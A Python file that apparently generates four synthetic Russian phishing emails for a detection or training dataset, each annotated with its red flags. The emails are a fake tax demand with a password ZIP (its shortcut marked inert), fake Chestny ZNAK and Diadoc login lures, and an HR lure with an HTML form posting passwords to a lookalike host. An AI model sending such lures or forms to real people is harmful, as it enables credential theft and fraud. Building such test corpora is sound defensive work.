"""Attack messages 37-40 (Russian)."""

from lib import systems as sy, bodies as bd, mime, docs, archive, ident, org, util
from lib.h import msg, att, pdf, qr_png, qr_part, logo_png, gmt
from lib.util import CRLF, secs, rfcdate

ATT = "attack"
INN = org.OFF["RU"]["taxid"][1].split(" ")[0]


@msg(ATT, 37, "ru", "fns-trebovanie-arhiv-parol",
     "'ФНС России' sends a demand for explanations about VAT discrepancies (art. 88 Tax Code); the demand is in a "
     "password-protected archive 'for tax secrecy', password in the text",
     "Malware loader: the tax service sends demands through EDI operators (ТКС), never as e-mail attachments; "
     "password ZIP defeats scanning and contains a '.pdf.lnk'; sent from the compromised mailbox of an unrelated "
     "Moscow construction supplier on Beget hosting; windows-1251 8-bit body as produced by Russian mass mailers")
def a37(m):
    m.when(2026, 11, 2, 10, 21, 3)
    m.frm = ("ФНС России - Межрайонная ИФНС № 46", "buh@stroytorg-msk.ru")
    m.to = [org.st("dmitry.volkov")]
    m.subject = "Требование о представлении пояснений № 12-18/3847"
    m.hcs = ("windows-1251", "B", "windows-1251")
    r = m.rng
    pw = "3847"
    zname = "Требование_12-18_3847.zip"
    m.meta["zip_pw"] = {zname: pw}
    m.fact("other", "ZIP password %s (given in the body)" % pw)
    inert = ("[INERT TEST SAMPLE – no executable content]\r\nRepresents a Windows shortcut (.lnk) named like a PDF "
             "that would launch a loader. Text only.\r\n")
    z = archive.make_zip([("Требование_ФНС_12-18_3847.pdf.lnk", inert.encode(), (2026, 11, 2, 9, 58, 12))],
                         password=pw, rng=r.sub("zip"))
    text = ("Уважаемый налогоплательщик!\n\n"
            "Межрайонная инспекция ФНС России № 46 по г. Москве направляет Вам требование о представлении пояснений "
            "№ 12-18/3847 от 02.11.2026 в связи с выявленными расхождениями в налоговой декларации по НДС за "
            "III квартал 2026 г. (ст. 88 НК РФ) в отношении ООО «Экзампл Фарма» (ИНН %s).\n\n"
            "Пояснения необходимо представить в течение 5 (пяти) рабочих дней со дня получения требования. "
            "Непредставление пояснений влечёт ответственность, предусмотренную ст. 129.1 НК РФ.\n\n"
            "Требование и перечень расхождений находятся во вложении. Архив защищён паролем в целях сохранения "
            "налоговой тайны.\n"
            "Пароль: %s\n\n"
            "С уважением,\nМежрайонная ИФНС России № 46 по г. Москве\n" % (INN, pw))
    tp = mime.text(text, "plain", "windows-1251", "8bit")
    a = att(m, z, "application/zip", zname, "outlook", description=False)
    m.root = mime.multipart1("mixed", [tp, a], "----=_NextPart_000_%s_%s.%s" % (r.hexs(4, True), r.hexs(8, True),
                                                                                 r.hexs(8, True)))
    m.msgid = "%s$%s$%s$@stroytorg-msk.ru" % ("000001dc4" + r.hexs(3), r.hexs(8), r.hexs(8))
    hdrs = m.std(["From", "To", "Subject", "Date", "Message-ID", "MIME-Version", "MIME"])
    hdrs += ["X-Priority: 1 (Highest)", "X-Mailer: The Bat! (v10.4.0.3) Professional"]
    host = "smtp%d.beget.com" % r.randint(20, 60)
    sy.relay(m, host, "5.101.153.%d" % r.randint(20, 90), hdrs, submit={"kind": "raw", "lines": [
        "Received: from [46.148.%d.%d] (port=%d helo=[127.0.0.1])" % (r.randint(1, 250), r.randint(1, 250), r.randint(49152, 65000))
        + CRLF + "\tby %s with esmtpsa (TLS1.2) tls TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384" % host + CRLF +
        "\t(Exim 4.96)" + CRLF + "\t(envelope-from <buh@stroytorg-msk.ru>)" + CRLF +
        "\tid %s" % util.exim_id(r) + CRLF + "\tfor dmitry.volkov@example.com;" + CRLF + "\t" +
        rfcdate(m.date + secs(1), "Europe/Moscow")]},
        dkim=[("stroytorg-msk.ru", "beget", "relaxed/relaxed", "Date:From:To:Subject:Message-ID:MIME-Version:Content-Type")],
        tls="1.3", mailfrom="buh@stroytorg-msk.ru")


@msg(ATT, 38, "ru", "chestny-znak-mdlp-sertifikat",
     "'Честный ЗНАК' warns the Moscow office that access to the MDLP personal account will be suspended on 20.11 "
     "unless the qualified e-signature certificate is re-registered for the new API",
     "Pharmacy-specific credential phishing (drug-movement monitoring is mandatory for pharmacies): crpt-lk.ru is "
     "not crpt.ru / честныйзнак.рф, bulk ESP sending, threat of blocked dispensing, login page asking for the "
     "certificate PIN")
def a38(m):
    m.when(2026, 11, 13, 9, 27, 51)
    m.frm = ("Честный ЗНАК", "noreply@crpt-lk.ru")
    m.to = [org.st("olga.smirnova")]
    m.subject = "МДЛП: доступ к личному кабинету будет приостановлен 20.11.2026"
    r = m.rng
    url = "https://lk-mdlp.crpt-lk.ru/auth?inn=%s&t=%s" % (INN, r.hexs(16))
    paras = ["Уважаемый участник оборота лекарственных препаратов!",
             "В связи с переходом ГИС МДЛП на новую версию API с 01.12.2026 всем участникам оборота необходимо "
             "повторно зарегистрировать сертификат усиленной квалифицированной электронной подписи (УКЭП) в личном "
             "кабинете.",
             "Организация: **ООО «ЭКЗАМПЛ ФАРМА»**, ИНН %s\nМест деятельности: 14\nСрок регистрации: **до 20.11.2026**" % INN,
             "После указанной даты передача сведений о выбытии лекарственных препаратов будет невозможна, а доступ к "
             "личному кабинету будет приостановлен."]
    footer = ["ООО «Оператор-ЦРПТ», 121614, г. Москва, ул. Крылатская, д. 17, корп. 2",
              "Вы получили это письмо как зарегистрированный участник системы мониторинга движения лекарственных "
              "препаратов."]
    html = bd.notice_html("Честный ЗНАК · МДЛП", "#1f2937", "Требуется повторная регистрация сертификата", paras,
                          ("Перейти в личный кабинет", url), footer, lang="ru")
    text = bd.notice_text("Требуется повторная регистрация сертификата", paras, ("Перейти в личный кабинет", url),
                          footer)
    bd.alt(m, text, html, "----==%s" % r.hexs(32), "utf-8", "base64", quoted=True)
    m.msgid = "%s@crpt-lk.ru" % r.hexs(40)
    hdrs = m.std(["From", "To", "Subject", "Date", "Message-ID", "MIME-Version", "MIME"])
    hdrs += ["X-Unisender-Message-Id: %s" % r.hexs(32), "X-Unisender-Campaign-Id: %d" % r.randint(10**8, 10**9),
             "List-Unsubscribe: <https://go2.unisender.ru/ru/unsubscribe?hash=%s>" % r.hexs(48),
             "Precedence: bulk"]
    host = "smtp%d.unisender.ru" % r.randint(10, 40)
    sy.relay(m, host, "185.98.%d.%d" % (r.randint(170, 175), r.randint(2, 250)), hdrs,
             submit={"kind": "raw", "lines": [
                 "Received: from unisender-go (localhost [127.0.0.1]) by %s (Postfix) with ESMTP id %s;" % (
                     host, util.postfix_qid(r)) + CRLF + "\t" + rfcdate(m.date + secs(1), "Europe/Moscow", comment=True)]},
             dkim=[("crpt-lk.ru", "us", "relaxed/relaxed", "From:To:Subject:Date:Message-ID:List-Unsubscribe"),
                   ("unisender.ru", "us2", "relaxed/relaxed", "From:To:Subject:Date:Message-ID")],
             tls="1.3", mailfrom="bounce-%s@bounce.crpt-lk.ru" % r.hexs(16))


@msg(ATT, 39, "ru", "diadok-dokument-poddelnyi",
     "'Контур.Диадок' notification: ФармДистрибьюшн sent an invoice and a UPD that require signature; button "
     "'open document'",
     "EDI-platform credential phishing: the link goes to diadoc.kontur.ru-docs.online (a different registrable "
     "domain), the sender domain diadoc-info.ru is hosted on VK WorkSpace (mail.ru); real Diadoc notifications "
     "come from diadoc.ru / kontur.ru and link to diadoc.kontur.ru")
def a39(m):
    m.when(2026, 12, 1, 15, 44, 10)
    m.frm = ("Контур.Диадок", "noreply@diadoc-info.ru")
    m.to = [org.st("dmitry.volkov")]
    m.subject = "Вам пришёл документ на подпись от ООО «ФармДистрибьюшн»"
    r = m.rng
    url = "https://diadoc.kontur.ru-docs.online/Document/Show?letterId=%s&documentId=%s" % (r.guid(), r.guid())
    paras = ["Здравствуйте!",
             "В ящик организации ООО «ЭКЗАМПЛ ФАРМА» поступили документы от контрагента ООО «ФармДистрибьюшн» "
             "(ИНН %s):" % org.FARMD["inn"],
             "• УПД № 4187 от 30.11.2026 на сумму 1 284 560,00 руб.\n• Счёт на оплату № 4187 от 30.11.2026",
             "Документы требуют подписания. Срок подписания — 3 рабочих дня."]
    footer = ["АО «ПФ «СКБ Контур», Екатеринбург · Служба поддержки: 8 800 500-10-10",
              "Чтобы не получать уведомления, измените настройки в Диадоке."]
    html = bd.notice_html("Диадок", "#de4831", "Новые документы", paras, ("Открыть документ", url), footer, lang="ru")
    text = bd.notice_text("Новые документы", paras, ("Открыть документ", url), footer)
    m.fact("phone", "8 800 500-10-10", "real Kontur support number copied into the footer")
    bd.alt(m, text, html, "--_com.vk.workspace_%s" % r.hexs(20), "utf-8", "base64", quoted=True)
    m.msgid = "%d.%s@smtp%d.i.mail.ru" % (util.epoch(m.date), r.hexs(8), r.randint(30, 60))
    hdrs = m.std(["From", "To", "Subject", "MIME-Version", "Date", "Message-ID", "MIME"])
    hdrs += ["X-Mailer: VK WorkSpace Mail"]
    host = "smtp%d.i.mail.ru" % r.randint(30, 60)
    sy.relay(m, host, "95.163.41.%d" % r.randint(60, 99), hdrs, submit={"kind": "raw", "lines": [
        "Received: by %s with esmtpa (envelope-from <noreply@diadoc-info.ru>)" % host + CRLF +
        "\tid 1t%s-%s; %s" % (r.alnum(6), r.alnum(6), rfcdate(m.date + secs(1), "Europe/Moscow"))]},
        dkim=[("diadoc-info.ru", "mailru", "relaxed/relaxed", "From:To:Subject:Date:Message-ID:MIME-Version:Content-Type")],
        extra_trace=["X-7564579A: 646B95376F6C166E", "X-77F55803: 4F1203BC0FB41BD9" + r.hexs(16, True),
                     "X-Mailru-Src: smtp", "X-Mras: Ok", "X-Mailru-Sender: %s" % r.hexs(64, True)[:60]],
        tls="1.3", mailfrom="noreply@diadoc-info.ru")


@msg(ATT, 40, "ru", "kadry-peresmotr-zarplaty-html",
     "'Отдел кадров' announces the 2027 salary review; the personal notice is an HTML attachment that opens a "
     "corporate Outlook sign-in page",
     "HTML-attachment credential phishing with an HR lure: sender domain examplegroup-kadry.ru (not the company), "
     "koi8-r text from an Exim VPS, local form posting the password to owa-examplegroup.ru-auth.online; HR mails "
     "come internally through mail-int01")
def a40(m):
    m.when(2026, 12, 21, 8, 48, 22)
    m.frm = ("Отдел кадров Example Group", "hr@examplegroup-kadry.ru")
    m.to = [org.st("olga.smirnova")]
    m.subject = "Пересмотр заработной платы на 2027 год - ознакомьтесь до 25.12"
    m.hcs = ("koi8-r", "B", "koi8-r")
    r = m.rng
    action = "https://owa-examplegroup.ru-auth.online/owa/auth.owa"
    page = ("<!DOCTYPE html>\n<html lang=\"ru\">\n<head>\n<meta charset=\"utf-8\">\n<title>Outlook</title>\n"
            "<style>body{font-family:'Segoe UI',Tahoma,sans-serif;background:#0072c6;margin:0}"
            ".b{background:#fff;width:400px;margin:90px auto;padding:36px}input{width:100%;margin:8px 0;padding:6px}"
            "</style>\n</head>\n<body>\n<div class=\"b\">\n<h2>Outlook</h2>\n"
            "<p>Документ «Уведомление об изменении оплаты труда (Смирнова О.)» защищён. Войдите, чтобы "
            "просмотреть.</p>\n"
            "<form method=\"post\" action=\"@A@\">\n"
            "<label>Адрес электронной почты:</label><input type=\"text\" name=\"username\" value=\"olga.smirnova@example.com\">\n"
            "<label>Пароль:</label><input type=\"password\" name=\"password\">\n"
            "<input type=\"submit\" value=\"Вход\">\n</form>\n</div>\n</body>\n</html>\n").replace("@A@", action)
    m.fact("URL", action, "form action inside the HTML attachment")
    text = ("Уважаемые коллеги!\n\n"
            "По итогам ежегодной оценки в группе компаний Example Group утверждены новые оклады и премиальные "
            "коэффициенты на 2027 год.\n\n"
            "Персональное уведомление об изменении условий оплаты труда направлено Вам во вложении. Просим "
            "ознакомиться с ним до 25.12.2026 и подтвердить ознакомление, войдя под своей корпоративной учётной "
            "записью.\n\n"
            "Уведомления, не подтверждённые в срок, будут считаться отклонёнными, и условия оплаты труда останутся "
            "прежними.\n\n"
            "С уважением,\nОтдел кадров\n")
    tp = mime.text(text, "plain", "koi8-r", "8bit")
    a = att(m, page.encode("utf-8"), "text/html", "Уведомление_оплата_труда_2027.html", "rfc2231")
    m.root = mime.multipart1("mixed", [tp, a], "----------%s" % r.hexs(24, True))
    m.msgid = "%s@examplegroup-kadry.ru" % r.hexs(24)
    hdrs = m.std(["Date", "From", "To", "Subject", "Message-ID", "MIME-Version", "MIME"])
    hdrs += ["X-Mailer: Microsoft Outlook 16.0"]
    host = "vds%d.timeweb.ru" % r.randint(1000, 9999)
    ip = "92.53.%d.%d" % (r.randint(64, 127), r.randint(2, 250))
    sy.relay(m, host, ip, hdrs, submit={"kind": "exim_local", "user": "www-data"}, mta="exim", tls="1.2",
             mailfrom="hr@examplegroup-kadry.ru")
    m.conn = ("mail.examplegroup-kadry.ru", host, ip)
    m.spf = "pass"
